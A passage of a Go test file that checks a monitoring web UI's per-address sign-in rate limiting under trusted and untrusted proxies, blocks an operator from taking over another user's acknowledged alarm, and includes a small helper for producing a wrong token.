		want    int // the other client's status once the guesser is limited
	}{
		{"trusted loopback proxy", []string{"127.0.0.1/32"}, http.StatusUnauthorized},
		{"no trusted proxy", nil, http.StatusTooManyRequests},
	} {
		t.Run(tc.name, func(t *testing.T) {
			srv := uitest.MustServe(t, monitoringtest.MustService(t, monitoringtest.Options{}), uitest.Options{TrustedProxies: tc.proxies})
			uitest.MustSeed(t, srv.Node.Service)
			guesser := uitest.NewSession(t, srv.URL)
			for i := 0; ; i++ {
				code, _ := signInAs(guesser, "olivia", "a wrong guess", map[string]string{"X-Forwarded-For": "192.0.2.66"})
				if code == http.StatusTooManyRequests {
					break
				}
				if i > 20 {
					t.Fatal("no per-address limit after 20 attempts")
				}
			}
			other := uitest.NewSession(t, srv.URL)
			if code, _ := signInAs(other, "olivia", "a typo", map[string]string{"X-Forwarded-For": "192.0.2.7"}); code != tc.want {
				t.Fatalf("another client: %d, want %d", code, tc.want)
			}
		})
	}
}

func TestSecurity_OperatorCannotTakeOver(t *testing.T) {
	e := mustSecurityEnv(t)
	ctx := context.Background()
	if _, err := e.svc.Acknowledge(ctx, "sam-ack", "sam", e.amiraAlarm, false); err != nil {
		t.Fatal(err)
	}
	path := "/ui/alarms/" + e.amiraAlarm + "/acknowledge"
	resp, _ := e.olivia.Do(http.MethodPost, path, url.Values{"csrf": {e.olivia.CSRF}, "takeover": {"1"}}, nil)
	if resp.StatusCode != http.StatusForbidden {
		t.Fatalf("an operator's takeover: %d", resp.StatusCode)
	}
	resp, body := e.olivia.Do(http.MethodPost, path, url.Values{"csrf": {e.olivia.CSRF}}, nil)
	if resp.StatusCode != http.StatusConflict || !strings.Contains(body, "held by sam") {
		t.Fatalf("acknowledging an alarm Sam holds: %d", resp.StatusCode)
	}
}

// otherFirst returns tok with another first character: a token that is
// surely wrong ("x" + tok[1:] was tok itself when tok began with x).
func otherFirst(tok string) string {
	if strings.HasPrefix(tok, "x") {
		return "y" + tok[1:]
	}
	return "x" + tok[1:]
}
